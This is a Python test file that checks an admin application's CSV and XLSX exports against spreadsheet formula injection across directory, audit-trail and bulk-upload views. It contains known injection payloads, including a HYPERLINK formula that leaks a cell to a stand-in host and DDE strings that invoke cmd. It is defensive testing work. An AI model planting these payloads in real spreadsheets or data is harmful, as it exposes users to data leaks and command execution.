"""Every CSV and XLSX export, downloaded through its view and parsed back: each cell that would
start a formula (=, +, -, @, tab, CR) comes back with an apostrophe in front, every other cell
byte-identical to what evadmin holds.

The hostile values travel the real way: sandbox users synced into the directory (locations
CSV/XLSX, report findings), audit events with hostile reasons and actor names (audit trail),
and a bulk file with hostile cells uploaded through the bulk view (rejected rows, results).
"""

from __future__ import annotations

import csv
import io
import re
import uuid

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from evadmin.audit import actions
from evadmin.audit.services import audit_record
from evadmin.core.exports import FORMULA_TRIGGERS
from evadmin.driver_directory.models import DirectoryAccount
from tests.bulk.conftest import fresh_budget  # noqa: F401 - a fixture for test_bulk_exports
from tests.drivers.test_hostile_data import hostile_user
from tests.staff.fixtures import make_staff

NUMBER = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")
# One value per trigger, each a known CSV-injection payload, plus look-alikes that are safe.
DANGEROUS = {
    "full_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "address_1": "+44 20 7946 0000",
    "address_2": "-2+3+cmd|' /C calc'!A0",
    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
    "state": "\t=1+1",
    "postal_code": "\r=1+1",
}
SAFE = ("a=b", "<b>bold</b>", "Zoë Müller", "'=already quoted", " =leading space")


def neutralised(value):
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) else value


def assert_safe_cells(rows: list[list]) -> None:
    """No cell starts a formula, except numbers (a spreadsheet reads -0.12 as a number)."""
    for row in rows:
        for cell in row:
            if isinstance(cell, str) and cell.startswith(FORMULA_TRIGGERS):
                assert NUMBER.fullmatch(cell), f"formula-like cell exported as is: {cell!r} in {row}"


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def xlsx_rows(response) -> list[list]:
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = workbook.worksheets[0]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row), "a formula cell in the export"
    return [["" if value is None else value for value in row] for row in sheet.iter_rows(values_only=True)]


def by_heading(rows: list[list], key: str) -> dict:
    header, *data = rows
    return {row[header.index(key)]: dict(zip(header, row, strict=False)) for row in data}


# --- directory: locations CSV and XLSX, report findings ------------------------------------

@pytest.fixture
def hostile_accounts(api_settings, sandbox_api):
    """Two synced sandbox users: one with a dangerous value in every text field, one with safe look-alikes."""
    from evadmin.evenergy.client import build_client
    from tests.driver_directory.factories import directory_full_sync

    sandbox_api.reset(data=True)
    api = build_client()
    tag = uuid.uuid4().hex[:6]
    dangerous_id = hostile_user(sandbox_api, api, {**DANGEROUS, "email": f"=1+1{tag}@example.com"})
    safe_id = hostile_user(sandbox_api, api, dict(zip(("full_name", "address_1", "address_2", "city", "state"),
                                                      SAFE, strict=True)))
    directory_full_sync()
    accounts = {account.user_id: account for account in DirectoryAccount.objects.filter(
        user_id__in=[dangerous_id, safe_id])}
    # What evadmin holds must still be dangerous, or the round trip below would prove nothing.
    held = accounts[dangerous_id]
    assert [getattr(held, field)[:1] for field in DANGEROUS] == [value[:1] for value in DANGEROUS.values()]
    return accounts[dangerous_id], accounts[safe_id]


LOCATION_FIELDS = {"Email": "email", "Full name": "full_name", "Address line 1": "address_1",
                   "Address line 2": "address_2", "City": "city", "State or county": "state", "Postcode": "postal_code"}


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_locations_export(client_as, hostile_accounts, file_format):
    response = client_as("viewer").get(f"/locations/export.{file_format}")
    rows = csv_rows(response) if file_format == "csv" else xlsx_rows(response)
    assert_safe_cells(rows)
    exported = by_heading(rows, "User id")
    for account in hostile_accounts:
        row = exported[account.user_id]
        for heading, field in LOCATION_FIELDS.items():
            expected = neutralised(getattr(account, field))
            if file_format == "xlsx":
                expected = expected.replace("\r", "\n")  # XML reads a CR in text as LF (XML 1.0, 2.11)
            assert row[heading] == expected, heading
    dangerous, safe = hostile_accounts
    assert exported[dangerous.user_id]["Full name"] == "'" + DANGEROUS["full_name"]
    assert exported[safe.user_id]["Address line 1"] == SAFE[1]  # byte-identical
    if file_format == "xlsx":
        assert isinstance(exported[dangerous.user_id]["Longitude"], float)  # numbers stay numbers


def test_report_findings_export(client_as, hostile_accounts):
    from evadmin.data_quality.models import AuditReport
    from evadmin.data_quality.services import audit_report_advance

    dangerous, _safe = hostile_accounts
    report = audit_report_advance(report_id=AuditReport.objects.create().pk)
    findings = list(report.findings.filter(user_id=dangerous.user_id))
    assert findings  # its postcode is no postcode
    rows = csv_rows(client_as("auditor").get(f"/audit/reports/{report.pk}/findings.csv"))
    assert_safe_cells(rows)
    header, *data = rows
    mine = [dict(zip(header, row, strict=True)) for row in data if row[header.index("user_id")] == dangerous.user_id]
    assert sorted((row["rule"], row["email"], row["detail"]) for row in mine) == sorted(
        (finding.rule, neutralised(finding.email), neutralised(finding.detail)) for finding in findings)
    assert {row["email"] for row in mine} == {"'" + dangerous.email}


# --- audit trail ------------------------------------------------------------------------------

def test_audit_trail_export(client_as, db):
    actor = make_staff("support", username="-2+3")  # Django's username rules allow + - @ . _
    reasons = {**DANGEROUS, **{f"safe{n}": value for n, value in enumerate(SAFE)}}
    events = {name: audit_record(actor=actor, action=actions.USER_UPDATE, target_user_id="@user", reason=reason,
                                 before={"city": "London"}, after={"city": reason})
              for name, reason in reasons.items()}
    rows = csv_rows(client_as("auditor").get("/audit/export.csv"))
    assert_safe_cells(rows)
    exported = by_heading(rows, "id")
    for name, event in events.items():
        row = exported[str(event.pk)]
        assert row["reason"] == neutralised(reasons[name]), name
        assert row["actor"] == "'-2+3" and row["target_user_id"] == "'@user"
        assert row["after"].startswith("{")  # JSON cells start with a brace: safe as they are


# --- bulk: rejected rows and results -----------------------------------------------------------

@pytest.mark.usefixtures("fresh_budget")
def test_bulk_exports(client_as, monkeypatch):
    from evadmin.bulk.models import BulkJob
    from tests.bulk.conftest import offline_checker
    from tests.bulk.factories import address, csv_bytes

    monkeypatch.setattr("evadmin.bulk.upload.drafts.RowChecker", offline_checker)
    client = client_as("bulk_operator")
    rows = [
        {"email": "=1+1@example.com", **address(address_1="+44 20 7946 0000", city="@SUM(1)")},  # valid
        {"email": "-2+3", **address(address_2="\t=1+1", state="\r=1+1")},  # invalid email
        {"email": "@evil", **address(city=SAFE[0], address_2=SAFE[1])},  # invalid email
    ]
    response = client.post("/bulk/", {"file": SimpleUploadedFile("hostile.csv", csv_bytes(rows))})
    assert response.status_code == 302, response.content.decode()[:1000]
    job = BulkJob.objects.get()
    stored = {row.row_number: row for row in job.rows.all()}

    rejected = csv_rows(client.get(f"/bulk/jobs/{job.pk}/rejected.csv"))
    assert_safe_cells(rejected)
    header, *data = rejected
    assert [row[0] for row in data] == ["3", "4"]
    for row in data:
        values = stored[int(row[0])].values
        for column, cell in zip(header[2:], row[2:], strict=True):
            assert cell == neutralised(values.get(column, "")), column
    # Upload trims cells ("\r=1+1" is held as "=1+1"), so the trigger is "=" by then.
    assert data[0][header.index("state")] == "'=1+1" and data[1][header.index("address_2")] == SAFE[1]

    results = csv_rows(client.get(f"/bulk/jobs/{job.pk}/results.csv"))
    assert_safe_cells(results)
    header, *data = results
    assert [row[header.index("email")] for row in data] == ["'=1+1@example.com", "'-2+3", "'@evil"]
    for row in data:
        assert row[header.index("error")] == neutralised(stored[int(row[0])].error)
